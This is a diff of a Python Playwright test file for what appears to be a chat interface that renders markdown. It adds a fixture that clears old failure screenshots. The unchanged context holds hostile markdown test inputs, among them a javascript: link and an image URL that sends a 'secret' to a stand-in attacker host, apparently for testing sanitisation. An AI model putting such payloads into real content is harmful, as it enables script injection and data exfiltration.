@@ -14,7 +14,7 @@ import pytest
 from playwright.sync_api import Page, expect
 
 from tests.conftest import FAILED, ServerFactory, offline_settings, upstream_settings
-from tests.support.browser import chromium, screenshot_path
+from tests.support.browser import chromium, forget_old_failures, screenshot_path
 from tests.support.mock_upstream import MockUpstream, Script
 from tests.support.server import LiveServer
 
@@ -31,6 +31,11 @@ MARKDOWN = [
     '<span id="send">fake</span> [click](javascript:window.pwned=3) ',
     "![chat log](https://attacker.invalid/?q=secret)\n",
 ]
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _fresh_failure_screenshots() -> None:
+    forget_old_failures()
 
 
 @pytest.fixture
